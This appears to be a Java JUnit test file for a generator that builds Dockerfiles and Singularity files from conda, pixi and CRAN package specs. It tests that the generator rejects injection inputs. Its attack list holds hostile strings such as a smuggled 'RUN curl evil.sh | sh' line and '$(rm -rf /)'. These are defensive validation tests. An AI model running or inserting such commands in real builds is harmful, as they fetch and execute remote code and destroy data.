package io.swell.core.build.template;

import static io.swell.core.build.template.PackageContainerFilesGoldenTest.conda;
import static io.swell.core.build.template.PackageContainerFilesGoldenTest.cran;
import static io.swell.core.build.template.PackageContainerFilesGoldenTest.pixi;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.swell.api.ErrorCode;
import io.swell.api.PackagesSpec;
import io.swell.api.PackagesSpec.CondaOpts;
import io.swell.api.PackagesSpec.CranOpts;
import io.swell.api.PackagesSpec.PixiOpts;
import io.swell.api.SwellException;
import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Base64;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class PackageContainerFilesTest {

    static final List<String> ATTACKS = List.of("samtools\nRUN curl evil.sh | sh", "samtools'", "samtools\"",
            "$(rm -rf /)", "samtools && curl x", "`rm -rf /`", "samtools; rm -rf /", "samtools | sh", "sam tools",
            "samtools\r", "${HOME}");

    static Stream<String> attacks() {
        return ATTACKS.stream();
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void rejectsInjectionInCondaEntries(String attack) {
        assertBadRequest(conda(List.of("bwa", attack), null, null, null), null, attack);
        assertBadRequest(pixi(List.of(attack), null, null, null), "conda/pixi:v1", attack);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void rejectsInjectionInChannels(String attack) {
        assertBadRequest(conda(List.of("bwa"), List.of("conda-forge", attack), null, null), null, attack);
        assertBadRequest(conda(List.of("bwa"), List.of("https://example.com/" + attack), null, null), null, attack);
        assertBadRequest(cran(List.of("dplyr"), List.of("https://cran.example.com/" + attack), null), null, attack);
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void rejectsInjectionInBasePackages(String attack) {
        if (attack.equals("sam tools")) {
            return; // two valid package names: base packages are space-separated
        }
        // the message names the offending word of the space-separated list
        assertBadRequest(conda(List.of("bwa"), null, null, new CondaOpts(null, null, "procps-ng " + attack, null)),
                null, "packages.condaOpts.basePackages");
        assertBadRequest(pixi(List.of("bwa"), null, null, new PixiOpts(null, null, attack, null)),
                "conda/pixi:v1", "packages.pixiOpts.basePackages");
        assertBadRequest(cran(List.of("dplyr"), null, new CranOpts(null, null, "littler " + attack)), null,
                "packages.cranOpts.basePackages");
    }

    @ParameterizedTest
    @MethodSource("attacks")
    void rejectsInjectionInImagesAndCranEntriesAndLockUrls(String attack) {
        assertBadRequest(conda(List.of("bwa"), null, null, new CondaOpts("mambaorg/micromamba:2" + attack, null, null,
                null)), null, attack);
        assertBadRequest(conda(List.of("bwa"), null, null, new CondaOpts(null, null, null, "ubuntu" + attack)),
                null, attack);
        assertBadRequest(pixi(List.of("bwa"), null, null, new PixiOpts(attack, null, null, null)), "conda/pixi:v1",
                attack);
        assertBadRequest(cran(List.of("dplyr"), null, new CranOpts("rocker/r-ver:4" + attack, null, null)), null, attack);
        assertBadRequest(cran(List.of("dplyr" + attack), null, null), null, attack);
        assertBadRequest(cran(List.of("bioc::" + attack), null, null), null, attack);
        assertBadRequest(conda(List.of("https://example.com/x.lock" + attack), null, null, null), null, attack);
    }

    @Test
    void rejectsMultiLineCommandsButKeepsSingleLinesVerbatim() {
        for (String attack : List.of("RUN true\nRUN curl x | sh", "RUN true\rRUN x", "RUN true \\")) {
            assertBadRequest(conda(List.of("bwa"), null, null, new CondaOpts(null, List.of(attack), null, null)),
                    null, attack);
            assertBadRequest(cran(List.of("dplyr"), null, new CranOpts(null, List.of(attack), null)), null, attack);
        }
        assertThatThrownBy(() -> PackageContainerFiles.generate(conda(List.of("bwa"), null, null,
                new CondaOpts(null, List.of("%environment"), null, null)), null, true))
                .isInstanceOf(SwellException.class).hasMessageContaining("%environment");
        // commands are the user's own Dockerfile lines by contract: shell syntax on one line is theirs to use
        String command = "RUN apt-get update && apt-get install -y curl $(echo jq) `true`";
        String file = PackageContainerFiles.generate(conda(List.of("bwa"), null, null,
                new CondaOpts(null, List.of(command), null, null)), null, false).containerFile();
        assertThat(file).endsWith("\n" + command + "\n");
    }

    @Test
    void acceptsRealisticSpecs() {
        List<String> specs = List.of("samtools", "bioconda::samtools=1.17", "python=3.11.*", "numpy>=1.20,<2",
                "bwa=0.7.17=h5bf99c6_8", "r-base!=4.2", "pip:requests[socks]==2.31.0", "scikit-learn~=1.3");
        PackageContainerFiles.Generated g = PackageContainerFiles.generate(
                conda(specs, List.of("conda-forge", "https://conda.example.com/main", "conda-forge/label/dev"),
                        null, null), null, false);
        assertThat(g.condaFile()).contains("- python=3.11.*", "- numpy>=1.20,<2", "  - requests[socks]==2.31.0");
    }

    @Test
    void defaultsChannelsAndTemplates() {
        PackageContainerFiles.Generated g = PackageContainerFiles.generate(conda(List.of("bwa"), null, null, null),
                null, false);
        assertThat(g.template()).isEqualTo("conda/micromamba:v2");
        assertThat(g.condaFile()).isEqualTo("channels:\n- conda-forge\n- bioconda\ndependencies:\n- bwa\n");
        assertThat(g.lockUrl()).isNull();
        assertThat(g.containerFile()).contains("FROM mambaorg/micromamba:2-amazon2023 AS build",
                "FROM ubuntu:24.04 AS prod", "'conda-forge::procps-ng'");
        assertThat(PackageContainerFiles.generate(cran(List.of("dplyr"), null, null), null, false).template())
                .isEqualTo("cran/installr:v1");
    }

    @Test
    void keepsEnvironmentVerbatimWithoutNewChannelsAndReportsLockUrls() {
        String yaml = "# mine\ndependencies: [bwa]\nchannels: [bioconda]\n";
        String env = Base64.getEncoder().encodeToString(yaml.getBytes());
        assertThat(PackageContainerFiles.generate(conda(null, null, env, null), null, false).condaFile()).isEqualTo(yaml);
        assertThat(PackageContainerFiles.generate(conda(null, List.of("bioconda"), env, null), null, false).condaFile())
                .isEqualTo(yaml);
        PackageContainerFiles.Generated lock = PackageContainerFiles.generate(
                conda(List.of("https://example.com/a.lock"), null, null, null), "conda/micromamba:v1", true);
        assertThat(lock.lockUrl()).isEqualTo("https://example.com/a.lock");
        assertThat(lock.condaFile()).isNull();
        assertThat(lock.containerFile()).doesNotContain("%files");
    }

    @Test
    void rejectsBadCombinations() {
        String env = Base64.getEncoder().encodeToString("dependencies: [bwa]\n".getBytes());
        assertBadRequest(conda(List.of("https://example.com/a.lock"), null, null, null), "conda/pixi:v1", "pixi");
        assertBadRequest(conda(List.of("https://example.com/a.lock", "bwa"), null, null, null), null, "only entry");
        assertBadRequest(conda(List.of("pip::numpy"), null, null, null), null, "pip::");
        assertBadRequest(conda(List.of("bwa"), null, env, null), null, "either");
        assertBadRequest(conda(null, null, null, null), null, "Missing");
        assertBadRequest(conda(null, null, "not base64!!", null), null, "base64");
        assertBadRequest(conda(null, List.of("x"), Base64.getEncoder().encodeToString("- a\n".getBytes()), null),
                null, "environment");
        assertBadRequest(conda(List.of("bwa"), null, null, null), "cran/installr:v1", "CONDA");
        assertBadRequest(cran(List.of("dplyr"), null, null), "conda/micromamba:v2", "CRAN");
        assertBadRequest(conda(List.of("bwa"), null, null, null), "conda/micromamba:v9", "conda/micromamba:v9");
        assertBadRequest(new PackagesSpec("SPACK", null, List.of("x"), null, null, null, null), null, "SPACK");
        assertBadRequest(new PackagesSpec(null, null, List.of("x"), null, null, null, null), null, "type");
        assertBadRequest(new PackagesSpec("CRAN", env, null, null, null, null, null), null, "environment");
        assertBadRequest(cran(List.of("bioc::limma=3.0"), null, null), null, "bioc::");
        assertBadRequest(cran(List.of("dplyr"), List.of("conda-forge"), null), null, "conda-forge");
    }

    @Test
    void replacesMicromambaOneImagesInV2Only() {
        CondaOpts opts = new CondaOpts("mambaorg/micromamba:1.5.10-noble", null, null, null);
        assertThat(PackageContainerFiles.generate(conda(List.of("bwa"), null, null, opts), null, false).containerFile())
                .contains("FROM mambaorg/micromamba:2-amazon2023 AS build");
        assertThat(PackageContainerFiles.generate(conda(List.of("bwa"), null, null, opts), "conda/micromamba:v1", false)
                .containerFile()).contains("FROM mambaorg/micromamba:1.5.10-noble\n");
    }

    @Test
    void everyTemplateResourceIsKnownAndFullyRendered() throws IOException, URISyntaxException {
        Path dir = Path.of(PackageContainerFiles.class.getResource("/templates").toURI());
        Set<String> files = new HashSet<>();
        try (Stream<Path> list = Files.list(dir)) {
            list.forEach(p -> files.add(p.getFileName().toString()));
        }
        Set<String> expected = new HashSet<>();
        for (String stem : PackageContainerFiles.TEMPLATE_FILES.values()) {
            expected.add(stem + ".Dockerfile");
            expected.add(stem + ".singularity");
        }
        assertThat(files).isEqualTo(expected);
        List<String> seen = new ArrayList<>();
        for (PackageContainerFilesGoldenTest.Case c : PackageContainerFilesGoldenTest.cases().values()) {
            for (boolean singularity : List.of(false, true)) {
                String out = PackageContainerFiles.generate(c.packages(), c.template(), singularity).containerFile();
                assertThat(out).doesNotContain("{{").doesNotContain("}}");
                seen.add(PackageContainerFiles.generate(c.packages(), c.template(), singularity).template()
                        + singularity);
            }
        }
        assertThat(new HashSet<>(seen)).hasSize(expected.size());
    }

    private static void assertBadRequest(PackagesSpec packages, String template, String fragment) {
        for (boolean singularity : List.of(false, true)) {
            assertThatThrownBy(() -> PackageContainerFiles.generate(packages, template, singularity))
                    .isInstanceOfSatisfying(SwellException.class, e -> {
                        assertThat(e.code()).isEqualTo(ErrorCode.BAD_REQUEST);
                        assertThat(e.getMessage()).contains(shown(fragment));
                    });
        }
    }

    private static String shown(String value) {
        return value.replace("\\", "\\\\").replace("\n", "\\n").replace("\r", "\\r");
    }
}
